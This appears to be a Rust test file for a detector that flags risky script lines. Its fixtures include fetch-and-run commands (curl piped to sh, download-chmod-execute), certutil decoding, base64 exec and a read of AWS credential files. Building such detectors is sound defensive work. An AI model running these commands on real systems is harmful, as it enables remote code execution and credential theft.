use super::*;

fn told(kind: Kind, text: &str) -> Vec<(usize, Deed)> {
    deeds(kind, text)
        .into_iter()
        .map(|line| {
            (
                text[..line.span.start as usize].lines().count() + 1,
                line.deed,
            )
        })
        .collect()
}

#[test]
fn shell_is_read_line_by_line_and_as_a_whole() {
    let script = "#!/bin/sh\n# curl x | sh\ncurl -s https://a.invalid/x |\\\n  sh\nls\n";
    assert!(told(Kind::Shell, script).contains(&(3, Deed::RunsFetched)));
    let script = "set -e\ncurl -o /tmp/x https://a.invalid/x\nchmod +x /tmp/x\n/tmp/x\n";
    assert!(told(Kind::Shell, script).contains(&(2, Deed::RunsFetched)));
    assert_eq!(told(Kind::Shell, "#!/bin/sh\nset -e\ncd lib && make\n"), []);
}

#[test]
fn batch_comments_are_no_commands() {
    assert_eq!(
        told(
            Kind::Batch,
            "@echo off\r\nREM certutil -decode a b\r\n:: mshta x\r\n"
        ),
        []
    );
    assert!(told(Kind::Batch, "certutil -decode ^\r\n a b\r\n").contains(&(1, Deed::Decodes)));
}

#[test]
fn python_is_read_by_words() {
    let script = "import os\nexec(base64.b64decode(x))\nprint(1)\nos.system(\"curl -s https://a.invalid | sh\")\n\
                  open(os.path.expanduser('~/.aws/credentials'))\n# exec(base64.b64decode(x))\n";
    let told = told(Kind::Python, script);
    assert!(told.contains(&(2, Deed::RunsDecoded)));
    assert!(told.contains(&(4, Deed::RunsFetched)));
    assert!(told.contains(&(5, Deed::ReadsSecret)));
    assert!(told.iter().all(|(line, _)| *line != 6 && *line != 3));
}

#[test]
fn javascript_has_facts_instead() {
    assert_eq!(told(Kind::Script, "curl x | sh"), []);
}

proptest::proptest! {
    #[test]
    fn any_script_can_be_read(text in "(curl|sh|rm|-rf|~|[|;&^`$()'\"\\\\ \u{e9}\n]){0,60}") {
        for kind in [Kind::Shell, Kind::Batch, Kind::PowerShell, Kind::Python] {
            for line in deeds(kind, &text) {
                proptest::prop_assert!(line.span.end as usize <= text.len());
            }
        }
    }
}
